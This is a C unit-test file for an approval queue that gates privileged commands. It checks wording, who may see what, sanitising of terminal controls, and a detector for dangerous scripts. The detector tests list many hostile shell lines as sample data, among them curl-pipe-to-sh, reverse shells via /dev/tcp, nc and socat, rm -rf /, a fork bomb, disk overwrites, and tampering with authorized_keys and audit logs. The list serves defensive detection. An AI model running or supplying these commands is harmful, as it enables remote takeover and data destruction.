/* What is said to the queue, and what it shows: strict words, a screen that is obeyed by nothing.
 */
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "approval/danger.h"
#include "approval/diff.h"
#include "approval/verb.h"
#include "approval/verb_words.h"
#include "base/text.h"
#include "policy/policy.h"
#include "queue-fixture.h"

static struct endpoint endpoint = {.name = "operations"};
static struct policy policy = {.endpoints = &endpoint, .endpoint_count = 1};
static struct command defined[4];
static struct function functions[4];

static struct queue_fixture *fixture_of(void **state)
{
	struct queue_fixture *fixture = *state;

	if (fixture->base[0] == '\0')
		skip();
	endpoint.approval = queue_rule;
	memset(&policy.command_by_name, 0, sizeof(policy.command_by_name));
	return fixture;
}

static void define(
	struct queue_fixture *fixture, size_t index, const struct approval_subject *subject)
{
	defined[index] = (struct command){.name = subject->name, .function = &functions[index]};
	functions[index] = (struct function){.command = &defined[index]};
	functions[index].script.content.bytes = subject->text;
	snprintf(functions[index].script.content.digest,
		sizeof(functions[index].script.content.digest), "%s", subject->digest);
	table_put(fixture->arena, &policy.command_by_name, subject->name, &defined[index]);
}

static struct strings words_of(struct queue_fixture *fixture, const char *line)
{
	char *copy = arena_strdup(fixture->arena, line), *word;
	struct strings words = {0};

	while ((word = strsep(&copy, " ")) != NULL)
		strings_add(fixture->arena, &words, word);
	return words;
}

static struct approval_answer say(
	struct queue_fixture *fixture, enum queue_who who, const char *line)
{
	struct strings words = words_of(fixture, line);
	const struct approval_desk desk = {.arena = fixture->arena,
		.approvals = fixture->approvals,
		.policy = &policy,
		.person = &fixture->persons[who]};
	struct approval_answer answer;

	approval_verb(&desk, &words, false, &answer);
	assert_non_null(answer.text);
	assert_int_equal(answer.failed, answer.status != 0);
	return answer;
}

static void says(struct queue_fixture *fixture, enum queue_who who, const char *line, int status,
	const char *part)
{
	struct approval_answer answer = say(fixture, who, line);

	if (answer.status != status || strstr(answer.text, part) == NULL)
		fail_msg("%s: %d (expected %d), without \"%s\":\n%s", line, answer.status, status,
			part, answer.text);
}

static void test_from_a_request_to_an_approval_by_words(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_function(fixture, "drain-node", "true\n");
	struct approval_entry entry;

	define(fixture, 0, &subject);
	says(fixture, ERIN, "pending", 0, "nothing is pending\n");
	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	says(fixture, ERIN, "pending", 0, "    1  pending   ");
	says(fixture, ERIN, "pending", 0, "dana         function drain-node\n");
	says(fixture, ERIN, "pending show 1", 0, "number 1: function drain-node: pending\n");
	says(fixture, DANA, "approve 1 --reason mine", 1, "not of a group");
	says(fixture, ERIN, "approve 1 --for 8h --reason=ticket", 0, "number 1 is approved until ");
	assert_int_equal(queue_ask(fixture, &subject, DANA, true, &entry), APPROVAL_APPROVED);
	says(fixture, ERIN, "pending", 0, "nothing is pending\n");
	says(fixture, ERIN, "pending --state approved", 0, "drain-node");
	says(fixture, ERIN, "revoke 1 --reason over", 0, "number 1 is revoked\n");
	says(fixture, ERIN, "pending --all", 0, "revoked");
	says(fixture, ERIN, "approve 1 --reason again", 1, "revoked, and that is final\n");
	assert_int_equal(queue_ask(fixture, &subject, DANA, true, &entry), APPROVAL_REVOKED);
}

static void test_two_have_to_agree_and_each_is_told(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "systemctl restart a");

	subject.decided_by.approvers = 2;
	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	says(fixture, ERIN, "approve 1 --once --reason x", 0, "agreed by erin; more have to\n");
	says(fixture, ERIN, "pending", 0, "agreed: erin\n");
	says(fixture, ERIN, "approve 1 --once --reason x", 1, "agreed to number 1 already");
	says(fixture, FRANK, "approve 1 --once --reason x", 0,
		"number 1 is approved for one run\n");
	says(fixture, GRACE, "reject 1 --reason x", 1, "approved");
}

static void test_others_requests_are_not_everybodys(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "mysql -psecret");

	assert_int_equal(queue_request(fixture, &subject, ERIN), 1);
	says(fixture, DANA, "pending", 0, "nothing is pending\n");
	says(fixture, DANA, "pending show 1", 1,
		"there is no number 1 in the queue that you may see");
	says(fixture, DANA, "pending show 2", 1,
		"there is no number 2 in the queue that you may see");
	says(fixture, DANA, "reject 1 --reason x", 1, "there is no number 1");
	subject = queue_command(fixture, "mysql -pmine");
	assert_int_equal(queue_request(fixture, &subject, DANA), 2);
	says(fixture, DANA, "pending", 0, "mysql -pmine");
	says(fixture, DANA, "pending show 2", 0, "     2  -pmine\n");
	says(fixture, ROOT_ERIN, "pending", 0, "mysql -psecret");
	/* The second who asks for a function is told its number, and finds it. */
	subject = queue_function(fixture, "shared", "true\n");
	assert_int_equal(queue_request(fixture, &subject, ERIN), 3);
	says(fixture, DANA, "pending show 3", 1, "there is no number 3");
	assert_int_equal(queue_request(fixture, &subject, DANA), 3);
	says(fixture, DANA, "pending", 0, "function shared");
}

/* By what is shown of their own request nobody finds out what is defined, or reads a script. */
static void test_R24_who_asks_sees_what_they_asked_for_alone(void **state)
{
	static const char *const pages[] = {"pending show 1", "pending show 2",
		"pending show 1 --json", "pending show 2 --json", "pending", "pending --json"};
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "drain all");

	subject.name = "drain all";
	subject.run_as = "svc-secret";
	subject.profile = "profile-secret";
	defined[0] = (struct command){.name = "drain all", .program = "/usr/bin/program-secret"};
	table_put(fixture->arena, &policy.command_by_name, "drain all", &defined[0]);
	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	subject = queue_function(fixture, "function", "true secret\n");
	subject.rule = "rule-secret";
	subject.interpreter = "/bin/secret";
	define(fixture, 1, &subject);
	assert_int_equal(queue_request(fixture, &subject, DANA), 2);
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		const char *line = pages[i];
		struct approval_answer answer = say(fixture, DANA, line);

		if (answer.status != 0 || strstr(answer.text, "secret") != NULL ||
			strstr(answer.text, "defined") != NULL ||
			strstr(answer.text, "\"name\":\"drain") != NULL)
			fail_msg("%s: %s", line, answer.text);
	}
	says(fixture, DANA, "pending show 1", 0, "     2  all\n");
	says(fixture, ERIN, "pending show 1", 0, "  program       /usr/bin/program-secret\n");
	says(fixture, ERIN, "pending show 2", 0, "     1  true secret\n");
}

/* Unknown and forbidden look the same to who only asked; in JSON too, and by no hash of it. */
static void test_R24_who_asked_is_not_told_what_is_defined(void **state)
{
	static const char *const hidden[] = {"svc-ops", "standard", "defined as", "\"edit\"",
		"\"key\"", "sha256", "known to", "/bin/sh", "secret script", "node string"};
	static const char *const lines[] = {"pending show 1", "pending show 1 --json",
		"pending --json", "pending show 2", "pending show 2 --json"};
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject command = queue_command(fixture, "vim /etc/passwd"),
				script = queue_function(fixture, "f", "# secret script\n");

	define(fixture, 0, &script);
	command.name = "edit";
	assert_int_equal(queue_request(fixture, &command, DANA), 1);
	assert_int_equal(queue_request(fixture, &script, DANA), 2);
	for (size_t i = 0; i < 5; i++) {
		struct approval_answer answer = say(fixture, DANA, lines[i]);

		assert_int_equal(answer.status, 0);
		for (size_t j = 0; j < sizeof(hidden) / sizeof(hidden[0]); j++)
			if (strstr(answer.text, hidden[j]) != NULL)
				fail_msg("%s: \"%s\" is told:\n%s", lines[i], hidden[j],
					answer.text);
	}
	says(fixture, DANA, "pending show 1", 0, "passwd");
	says(fixture, ERIN, "pending show 1", 0, "edit");
	says(fixture, ERIN, "pending show 2", 0, "secret script");
}

/* "--dry-run" is asked for, and what is granted is the command with and without it. */
static void test_what_a_grant_lets_be_left_out_is_said(void **state)
{
	static const char *const options[] = {"--dry-run"};
	static struct parameter parameters[] = {{.name = "target",
							.type = PARAMETER_STRING,
							.position = 1,
							.repeat = 1,
							.required = true},
		{.name = "dry-run", .type = PARAMETER_FLAG, .index = 1, .repeat = 1}};
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "purge all --dry-run"),
				bare = queue_command(fixture, "purge all");
	struct command purge = {
		.name = "purge", .parameters = {.items = parameters, .count = 2, .positions = 1}};

	parameters[1].options = (struct strings){(const char **)(uintptr_t)options, 1};
	table_put(fixture->arena, &policy.command_by_name, "purge", &purge);
	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	assert_int_equal(queue_request(fixture, &bare, DANA), 2);
	says(fixture, ERIN, "pending show 1", 0,
		"approved for good it may be run without --dry-run too");
	if (strstr(say(fixture, ERIN, "pending show 2").text, "for good") != NULL)
		fail_msg("nothing can be left out");
}

/* Who may come in there, and after which authentication, is that endpoint's own. */
static void test_nothing_is_decided_through_another_endpoint(void **state)
{
	static const char *const lines[] = {"pending show 1", "approve 1 --reason x",
		"reject 1 --reason x", "revoke 1 --reason x"};
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "rm 1");
	struct approval_desk desk = {.arena = fixture->arena,
		.approvals = fixture->approvals,
		.policy = &policy,
		.person = &fixture->persons[ERIN],
		.endpoint = "lax"};
	struct approval_answer answer;

	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	for (size_t i = 0; i < 4; i++) {
		struct strings words = words_of(fixture, lines[i]);

		approval_verb(&desk, &words, false, &answer);
		assert_int_equal(answer.status, 1);
		assert_non_null(strstr(answer.text, "there is no number 1"));
	}
	assert_int_equal(queue_state(fixture, 1), APPROVAL_PENDING);
	desk.endpoint = "operations";
	for (size_t i = 0; i < 2; i++) {
		struct strings words = words_of(fixture, lines[i]);

		approval_verb(&desk, &words, false, &answer);
		assert_int_equal(answer.status, 0);
	}
}

static void test_wrong_words_are_refused_with_a_sentence(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	static const struct {
		const char *line, *part;
	} wrong[] = {
		{"approve", "approve needs the number"},
		{"approve 1", "approve needs --reason TEXT"},
		{"approve 1 --reason", "--reason needs a value"},
		{"approve 1 --reason=", "a reason has"},
		{"approve 1 2 --reason x", "\"2\" is one word too many"},
		{"approve 01 --reason x", "\"01\" is no number"},
		{"approve 0 --reason x", "\"0\" is no number"},
		{"approve -1 --reason x", "no option \"-1\""},
		{"approve +1 --reason x", "\"+1\" is no number"},
		{"approve 0x1 --reason x", "is no number"},
		{"approve ../1 --reason x", "\"../1\" is no number"},
		{"approve 1/2 --reason x", "is no number"},
		{"approve 99999999999999999999 --reason x", "is no number"},
		{"approve 1 --reason x --reason y", "--reason is there twice"},
		{"approve 1 --once=yes --reason x", "--once takes no value"},
		{"approve 1 --for 8 --reason x", "--for \"8\" is no time"},
		{"approve 1 --for 8hh --reason x", "is no time"},
		{"approve 1 --for 0h --reason x", "is no time"},
		{"approve 1 --for -1h --reason x", "is no time"},
		{"approve 1 --for 1.5h --reason x", "is no time"},
		{"approve 1 --for 367d --reason x", "is no time"},
		{"approve 1 --for 99999999999999d --reason x", "is no time"},
		{"approve 1 --for 8h --role web --reason x", "--role goes with neither"},
		{"approve 1 --role ../web --reason x", "no name of a role"},
		{"approve 1 --onc --reason x", "no option \"--onc\""},
		{"approve 1 --all --reason x", "approve has no option \"--all\""},
		{"reject 1 --for 8h --reason x", "reject has no option \"--for\""},
		{"revoke 1 --once --reason x", "revoke has no option"},
		{"pending 1", "pending takes no number: pending show 1"},
		{"pending show", "pending show needs the number"},
		{"pending --state open", "\"open\" is no state"},
		{"pending --all --state used", "exclude each other"},
		{"pending --limit 1001", "--limit is a number"},
		{"pending show 1 --reason x", "no option \"--reason\""},
		{"Approve 1 --reason x", "\"Approve\" is none of"},
		{"approve 1 --reason a\nb", "a byte that no text may have, at position 2"},
		{"approve 1 --reason \xff", "a byte that no text may have"},
		{"approve \033[2J --reason x", "\"\\x1b[2J\" is no number"},
		{"", "is none of"},
	};

	for (size_t i = 0; i < sizeof(wrong) / sizeof(wrong[0]); i++)
		says(fixture, ERIN, wrong[i].line, 2, wrong[i].part);
	assert_int_equal(verb_words_duration("90s"), 90);
	assert_int_equal(verb_words_duration("30m"), 1800);
	assert_int_equal(verb_words_duration("8h"), 28800);
	assert_int_equal(verb_words_duration("366d"), APPROVAL_LASTS_MAX);
}

/* Every C0, DEL, C1 and bidirectional control, in each field that comes from outside. */
static void test_R32_no_field_is_obeyed_by_a_terminal(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	static const unsigned points[] = {0x80, 0x85, 0x9b, 0x9d, 0x9f, 0x61c, 0x200b, 0x200e,
		0x200f, 0x2028, 0x2029, 0x202a, 0x202d, 0x202e, 0x2066, 0x2069, 0xfeff, 0xe0041};

	for (size_t i = 0; i < 0x20 + sizeof(points) / sizeof(points[0]); i++) {
		unsigned point = i < 0x20 ? (i == 0 ? 0x7f : (unsigned)i) : points[i - 0x20];
		char evil[8] = {0}, *text;
		struct approval_subject subject;
		struct strings words = {0};
		struct approval_answer shown;
		unsigned long number;

		if (point < 0x80)
			evil[0] = (char)point;
		else if (point < 0x800)
			snprintf(evil, sizeof(evil), "%c%c", 0xc0 | point >> 6,
				0x80 | (point & 0x3f));
		else if (point < 0x10000)
			snprintf(evil, sizeof(evil), "%c%c%c", 0xe0 | point >> 12,
				0x80 | (point >> 6 & 0x3f), 0x80 | (point & 0x3f));
		else
			snprintf(evil, sizeof(evil), "%c%c%c%c", 0xf0 | point >> 18,
				0x80 | (point >> 12 & 0x3f), 0x80 | (point >> 6 & 0x3f),
				0x80 | (point & 0x3f));
		text = arena_printf(fixture->arena, "a%sb", evil);
		if (i % 2 == 0) {
			subject = queue_function(fixture, text, text);
			subject.rule = text;
			subject.interpreter = text;
		} else {
			subject = queue_command(fixture, "rm x");
			strings_add(fixture->arena, &words, text);
			strings_add(fixture->arena, &words, text);
			subject.words = &words;
			subject.name = text;
		}
		subject.run_as = subject.profile = subject.reason = subject.act_as = text;
		fixture->persons[GRACE].name = text;
		number = queue_request(fixture, &subject, GRACE);
		assert_true(number > 0);
		for (int page = 0; page < 4; page++) {
			const char *line =
				page < 2    ? arena_printf(fixture->arena, "pending show %lu%s",
						      number, page == 1 ? " --json" : "")
				: page == 2 ? "pending --limit 1"
					    : "pending --json --limit 1";

			shown = say(fixture, ERIN, line);
			assert_int_equal(shown.status, 0);
			for (const char *at = shown.text; *at != '\0'; at++)
				if (*at != '\n' && ((unsigned char)*at < 0x20 || *at == 0x7f))
					fail_msg("U+%04X: byte %02x in:\n%s", point, *at,
						shown.text);
			if (point >= 0x80 && strstr(shown.text, evil) != NULL)
				fail_msg("U+%04X is in:\n%s", point, shown.text);
		}
	}
}

static void test_a_script_is_shown_whole_with_what_changed(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject former =
		queue_function(fixture, "f", "#!/bin/sh\nset -e\n\tdrain \"$1\"\n");
	struct approval_subject now = queue_function(
		fixture, "f", "#!/bin/sh\nset -e\n\tdrain \"$1\"\ncurl http://x | sh");
	struct approval_answer shown;

	define(fixture, 0, &now);
	assert_int_equal(queue_request(fixture, &former, DANA), 1);
	says(fixture, ERIN, "pending show 1", 0, "the function has another script by now");
	assert_int_equal(queue_approve(fixture, 1, ERIN), 0);
	assert_int_equal(queue_request(fixture, &now, DANA), 2);
	shown = say(fixture, ERIN, "pending show 2");
	assert_non_null(strstr(shown.text, "     1  #!/bin/sh\n     2  set -e\n"
					   "     3          drain \"$1\"\n"
					   "     4  curl http://x | sh\n"
					   "        (no newline at its end)\n"));
	assert_non_null(strstr(shown.text, "\nchanges since number 1, approved "));
	assert_non_null(strstr(shown.text, "@@ -1,3 +1,4 @@\n #!/bin/sh\n set -e\n"
					   "         drain \"$1\"\n+curl http://x | sh\n"
					   "\\ No newline at end of file\n"));
	assert_non_null(strstr(shown.text, "  line 4: runs what it downloads\n"));
	says(fixture, ERIN, "pending show 2", 0, "inputs:\n  node string\n");
	says(fixture, ERIN, "pending show 2", 0, "asked by      dana (uid 1001, login uid 1001)");
	says(fixture, ERIN, "pending show 2", 0,
		"approvers     1 of reviewers, or root; nobody who asked");
	says(fixture, ERIN, "pending show 2 --json", 0,
		"\"former\":1,\"changes\":[\"@@ -1,3 +1,4 @@\"");
	says(fixture, ERIN, "pending show 2 --json", 0, "\"warnings\":[{\"line\":4,\"why\":");
}

/* Who looks at one end of a long script alone sees what it is, and that there is a warning. */
static void test_both_ends_of_a_long_script_say_what_matters(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	char *text = arena_alloc(fixture->arena, 5001 * 8 + 32), *end = text;
	struct approval_subject subject;

	for (int i = 0; i < 5000; i++)
		end = mempcpy(end, i == 2776 ? "rm -rf /\n" : "true 1 \n", i == 2776 ? 9 : 8);
	subject = queue_function(fixture, "long", text);
	define(fixture, 0, &subject);
	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	says(fixture, ERIN, "pending show 1", 0, "  script        5000 lines, 40001 bytes");
	says(fixture, ERIN, "pending show 1", 0, "  warnings      1, at the end\n");
	says(fixture, ERIN, "pending show 1", 0,
		"\nwarnings:\n  line 2777: removes all of a directory of the system\n\n"
		"number 1, function long, for dana as ");
	subject = queue_function(fixture, "short", "true\n");
	define(fixture, 1, &subject);
	assert_int_equal(queue_request(fixture, &subject, DANA), 2);
	says(fixture, ERIN, "pending show 2", 0, "  warnings      none, which does not make");
}

static struct {
	unsigned count;
	unsigned long number;
	enum approval_event event;
	enum approval_state state;
	const char *who;
} told;

static void note_refused(void *context, const struct approval_entry *entry,
	enum approval_event event, const struct approval_person *person, const char *complaint)
{
	assert_ptr_equal(context, &told);
	assert_non_null(complaint);
	told.count++;
	told.number = entry->number;
	told.event = event;
	told.state = entry->state;
	told.who = person->name;
}

/* Who tries to approve their own is to be found in the records. */
static void test_R36_a_refused_decision_is_told(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "systemctl restart a");
	struct strings words = words_of(fixture, "approve 1 --reason mine");
	struct approval_desk desk = {.arena = fixture->arena,
		.approvals = fixture->approvals,
		.policy = &policy,
		.person = &fixture->persons[FRANK],
		.refused = note_refused,
		.refused_context = &told};
	struct approval_answer answer;

	memset(&told, 0, sizeof(told));
	assert_int_equal(queue_request(fixture, &subject, FRANK), 1);
	approval_verb(&desk, &words, false, &answer);
	assert_int_equal(answer.status, 1);
	assert_int_equal(told.count, 1);
	assert_int_equal(told.number, 1);
	assert_int_equal(told.event, APPROVAL_APPROVE);
	assert_int_equal(told.state, APPROVAL_PENDING);
	assert_string_equal(told.who, fixture->persons[FRANK].name);
	desk.person = &fixture->persons[ERIN];
	approval_verb(&desk, &words, false, &answer);
	assert_int_equal(answer.status, 0);
	assert_int_equal(told.count, 1);
}

static void test_what_was_rejected_before_is_said(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "less /etc/shadow");

	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	says(fixture, ERIN, "reject 1 --reason never", 0, "number 1 is rejected\n");
	assert_int_equal(queue_request(fixture, &subject, DANA), 2);
	says(fixture, ERIN, "pending show 2", 0, "rejected before, as number 1: never\n");
	says(fixture, ERIN, "pending show 2", 0, "less is known to start a shell");
	says(fixture, ERIN, "pending show 2", 0, "the words: touches what decides who may log in");
}

static void test_what_todays_configuration_does_not_ask_for(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_function(fixture, "gone", "true\n");

	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	says(fixture, ERIN, "approve 1 --reason x", 1, "has nothing any more");
	says(fixture, ERIN, "pending show 1", 0, "no function of that name is defined any more\n");
	define(fixture, 0, &subject);
	endpoint.approval.approvers = 2;
	says(fixture, ERIN, "approve 1 --reason x", 0, "more have to\n");
	endpoint.approval.required = endpoint.approval.learn = false;
	says(fixture, FRANK, "approve 1 --reason x", 1, "has nothing any more");
	functions[0].approval = queue_rule;
	says(fixture, FRANK, "approve 1 --reason x", 0, "is approved for good\n");
}

/* The grants of a test: what was called, and what it answers. */
struct granting {
	enum approval_event prepared;
	int prepares, committed, commits, closed;
	bool dies; /* killed when it has committed */
};

static int prepare(void *context, const struct approval_entry *entry, enum approval_event event,
	const struct approval_person *person, const char **complaint)
{
	struct granting *grants = context;

	assert_string_equal(person->name, "erin");
	assert_int_equal(entry->kind, APPROVAL_COMMAND);
	grants->prepared = event;
	*complaint = "that file is somebody's";
	return grants->prepares;
}

static int commit(void *context, const char **news, const char **complaint)
{
	struct granting *grants = context;

	grants->committed++;
	if (grants->dies)
		(void)raise(SIGKILL);
	*news = "granted by \033 it";
	*complaint = "no room";
	return grants->prepared == APPROVAL_REQUEST ? 0 : grants->commits;
}

static void close_grants(void *context)
{
	((struct granting *)context)->closed++;
}

static struct approval_answer grant(
	struct queue_fixture *fixture, struct granting *state, const char *line)
{
	const struct approval_grants grants = {state, prepare, commit, close_grants};
	struct strings words = words_of(fixture, line);
	const struct approval_desk desk = {.arena = fixture->arena,
		.approvals = fixture->approvals,
		.policy = &policy,
		.person = &fixture->persons[ERIN],
		.grants = &grants};
	struct approval_answer answer;

	state->prepared = APPROVAL_REQUEST;
	state->committed = state->closed = 0;
	approval_verb(&desk, &words, false, &answer);
	assert_int_equal(state->closed, 1);
	return answer;
}

static void test_a_command_that_is_approved_for_good_is_granted(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct granting grants = {.commits = 1};
	struct approval_answer answer;

	for (int i = 1; i <= 4; i++) {
		struct approval_subject subject =
			queue_command(fixture, arena_printf(fixture->arena, "rm %d", i));

		assert_int_equal(queue_request(fixture, &subject, DANA), i);
	}
	answer = grant(fixture, &grants, "approve 1 --role web --reason x");
	assert_int_equal(answer.status, 0);
	assert_true(answer.changed);
	assert_string_equal(answer.text, "number 1 is approved for good\ngranted by \\x1b it\n");
	answer = grant(fixture, &grants, "approve 2 --once --reason x");
	assert_int_equal(grants.prepared, APPROVAL_REQUEST);
	assert_false(answer.changed);
	grants.prepares = -1;
	answer = grant(fixture, &grants, "approve 3 --reason x");
	assert_int_equal(answer.status, 1);
	assert_int_equal(grants.committed, 0);
	assert_string_equal(answer.text, "that file is somebody's\n");
	assert_int_equal(queue_state(fixture, 3), APPROVAL_PENDING);
	grants.prepares = 0;
	grants.commits = -1;
	answer = grant(fixture, &grants, "approve 3 --reason x");
	assert_int_equal(answer.status, 1);
	assert_non_null(strstr(answer.text, "could not be changed: no room\n"));
	assert_int_equal(queue_state(fixture, 3), APPROVAL_APPROVED);
	grants.commits = 1;
	answer = grant(fixture, &grants, "revoke 1 --reason x");
	assert_int_equal(grants.prepared, APPROVAL_REVOKE);
	assert_true(answer.changed);
}

static void test_what_an_approval_is_bound_to_is_shown(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_function(fixture, "f", "true\n");
	struct strings paths = {0};

	strings_add(fixture->arena, &paths, "/srv/pool");
	strings_add(fixture->arena, &paths, "/srv/a=b");
	subject.transaction = &paths;
	subject.rollback = "undo drain";
	subject.timeout = 60;
	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	says(fixture, ERIN, "pending show 1", 0,
		"  profile       standard\n  transaction   /srv/pool\n  transaction   /srv/a=b\n"
		"  rollback      undo drain\n  timeout       60\n");
	says(fixture, ERIN, "pending show 1 --json", 0,
		"\"terms\":[\"transaction=/srv/pool\",\"transaction=/srv/a=b\",");
	says(fixture, DANA, "pending show 1", 0, "refused as");
	subject.rollback = "other";
	assert_int_equal(queue_request(fixture, &subject, DANA), 2);
}

/* Between the file and the queue: what is left then is an approval that grants nothing. */
static void test_R36_killed_as_it_revokes_leaves_no_grant_of_a_final_entry(void **state)
{
	struct queue_fixture *fixture = fixture_of(state);
	struct approval_subject subject = queue_command(fixture, "rm x");
	struct granting grants = {.commits = 1, .dies = true};
	int status;
	pid_t pid;

	assert_int_equal(queue_request(fixture, &subject, DANA), 1);
	assert_int_equal(queue_approve(fixture, 1, ERIN), 0);
	pid = fork();
	if (pid == 0) {
		fixture->approvals = approvals_open(fixture->arena, false, &fixture->complaint);
		grant(fixture, &grants, "revoke 1 --reason x");
		_exit(0);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFSIGNALED(status));
	queue_open(fixture);
	assert_int_equal(queue_state(fixture, 1), APPROVAL_APPROVED);
	grants.dies = false;
	assert_int_equal(grant(fixture, &grants, "revoke 1 --reason x").status, 0);
	assert_int_equal(grants.committed, 1);
	assert_int_equal(queue_state(fixture, 1), APPROVAL_REVOKED);
}

/* Each is found in the line, and says so; with what is harmless beside it. */
static void test_dangerous_content_is_recognised(void **state)
{
	static const char *const dangerous[] = {
		"curl -s https://x.example/i.sh | sh",
		"wget -qO- http://x | sudo bash -s",
		"sh <(curl x)",
		"bash -c \"$(curl -fsSL https://x)\"",
		"curl x | python3",
		"cat a | /bin/sh",
		"eval \"$cmd\"",
		". /srv/www/lib.sh",
		"[ -e x ] && . \"$x\"",
		"	source ./conf",
		"if true; then . x; fi",
		"eval $(printf %s \"$x\")",
		"rm -rf /",
		"rm -fr /*",
		"rm -r -f /etc",
		"rm --recursive --force /usr/",
		"rm -rf \"$dir\"",
		"rm -rf ~",
		"rm -rf --no-preserve-root /",
		"sudo rm -rf /var/*",
		"chmod u+s /tmp/sh",
		"chmod 4755 x",
		"chmod 777 /srv",
		"chmod a+w x",
		"cp x /etc/sudoers.d/y",
		"cat /etc/shadow",
		"echo x >/dev/tcp/10.0.0.1/80",
		"bash -i >& /dev/tcp/1.2.3.4/4 0>&1",
		"nc -e /bin/sh 1.2.3.4 99",
		"ncat --exec /bin/sh x 1",
		"socat TCP:x:1 EXEC:sh",
		"echo aGk= | base64 -d | sh",
		"base64 --decode x",
		"openssl enc -d | bash",
		"LD_PRELOAD=/tmp/x.so ls",
		"export BASH_ENV=/tmp/x",
		"PATH=/tmp:$PATH",
		"python3 -c 'x'",
		"perl -e 'x'",
		"sh -c \"$x\"",
		"/bin/bash -xc \"$x\"",
		"ruby -e x",
		"mount -o bind a b",
		"insmod x.ko",
		"modprobe x",
		"nsenter -t 1 -m",
		"find / -exec x {} ;",
		"xargs rm",
		"dd if=a of=/dev/sda",
		"mkfs.ext4 /dev/sdb1",
		"echo >/dev/sda",
		":(){ :|:& };:",
		"kill -9 -1",
		"useradd eve",
		"sudo ls",
		"setcap cap_sys_admin+ep x",
		"echo k >>~/.ssh/authorized_keys",
		"crontab -l",
		"echo x | at now",
		"at -f x $when",
		"at \"$when\"",
		"at 10:30",
		"at Jan 5",
		"at monday",
		"systemctl enable x",
		"setenforce 0",
		"auditctl -e 0",
		"rm /var/log/audit/audit.log",
		"cp x /etc/rolegate/roles.d/y.role",
		"shutdown -h now",
		"os.system(x)",
		"gdb -p 1",
		"subprocess.run(x, shell=True)",
		"pickle.loads(x)",
		"awk 'BEGIN { system(\"x\") }'",
		"echo 1 >/proc/sys/kernel/x",
		"ls $rolegate_input_dir",
		"rm ${rolegate_input_file}",
		"curl x \\\n  | sh",
		"curl x |\nsh",
		"rm\t-rf\t/",
		"true                                   ; x",
		"echo \xd0\xb0",
		"echo \xe2\x80\xae",
		"echo \xc2\xa0x",
		"ls\r",
		"echo \033[2J",
	};
	static const char *const harmless[] = {"#!/bin/sh", "set -eu",
		"echo \"$rolegate_input_node\"", "name=$rolegate_input_node", "rm -f /run/lock/x",
		"rm -rf /srv/www/cache/tmp", "systemctl restart nginx.service",
		"printf '%s\\n' \"--node=$rolegate_input_node\"", "case $1 in a) ;; esac",
		"cp a . && ls", "find . -name x", "echo \"see . there\"",
		"if [ -e /etc/nginx/nginx.conf ]; then", "	indented", "# na\xc3\xafve comment",
		"chmod 644 x", "grep -c x y", "evaluate x", "curl -o x https://y",
		"python3 script.py", "cat a | sort", "for i in 1 2; do", "mountpoint /srv",
		"PATH=/usr/bin", "echo 'it has at most 30 characters'", "# look at this"};
	char *line;

	(void)state;
	for (size_t i = 0; i < sizeof(dangerous) / sizeof(dangerous[0]); i++) {
		struct arena *arena = arena_new();
		struct danger danger = danger_find(arena, dangerous[i]);

		if (danger.count == 0)
			fail_msg("nothing was found in: %s", dangerous[i]);
		assert_int_equal(danger.findings[0].line, 1);
		arena_free(arena);
	}
	for (size_t i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++) {
		struct arena *arena = arena_new();
		struct danger danger = danger_find(arena, harmless[i]);

		if (danger.count > 0)
			fail_msg("%s: %s", harmless[i], danger.findings[0].why);
		arena_free(arena);
	}
	line = malloc(600);
	memset(line, 'x', 599);
	line[599] = '\0';
	struct arena *arena = arena_new();
	assert_int_equal(danger_find(arena, line).count, 1);
	arena_free(arena);
	free(line);
}

static void test_findings_name_their_lines_and_are_bounded(void **state)
{
	struct arena *arena = arena_new();
	char *text = arena_alloc(arena, 300 * 16);
	struct danger danger = danger_find(arena, "true\n\nrm -rf /\ntrue\neval \"$x\"");

	(void)state;
	assert_int_equal(danger.count, 2);
	assert_int_equal(danger.findings[0].line, 3);
	assert_int_equal(danger.findings[1].line, 5);
	for (int i = 0; i < 300; i++)
		memcpy(text + (ptrdiff_t)i * 9, "rm -rf /\n", 9);
	danger = danger_find(arena, text);
	assert_int_equal(danger.count, DANGER_SAME_MAX);
	assert_int_equal(danger.total, 300);
	assert_int_equal(danger.findings[danger.count - 1].more, 300 - DANGER_SAME_MAX);
	assert_int_equal(danger.findings[danger.count - 1].until, 300);
	memcpy(text + 299 * 9, "eval \"$x", 9);
	danger = danger_find(arena, text);
	assert_int_equal(danger.count, DANGER_SAME_MAX + 1); /* many of one kind hide no other */
